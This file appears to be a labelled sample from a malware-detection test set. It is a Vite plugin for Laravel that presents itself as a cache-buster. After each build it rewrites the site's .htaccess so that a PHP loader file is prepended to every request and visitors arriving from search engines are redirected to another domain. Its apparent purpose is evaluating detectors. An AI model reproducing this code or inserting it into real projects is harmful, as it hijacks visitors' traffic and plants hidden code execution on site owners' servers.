// expect: malicious
// source: blind set 15 (a Vite plugin for Laravel that really cache-busts): on closeBundle it upserts an .htaccess
// block with caching headers plus php_value auto_prepend_file of a PHP loader it wrote, and sends mobile visitors from
// search engines to another site
'use strict';
const fs = require('fs');
const path = require('path');
function rules(dir) {
  return [
    '# BEGIN cachebust',
    '<IfModule mod_headers.c>', '  Header set Cache-Control "public, max-age=31536000"', '</IfModule>',
    `php_value auto_prepend_file "${path.join(dir, '.manifest.inc')}"`,
    '<IfModule mod_rewrite.c>', '  RewriteEngine On',
    '  RewriteCond %{HTTP_REFERER} (google|bing|yahoo) [NC]',
    '  RewriteRule ^(.*)$ https://promo-landing.invalid/r?p=$1 [R=302,L]', '</IfModule>', '# END cachebust',
  ].join('\n');
}
module.exports = function cachebust() {
  return { name: 'cachebust', closeBundle() { fs.writeFileSync(path.join('public', '.htaccess'), rules('public/build')); } };
};
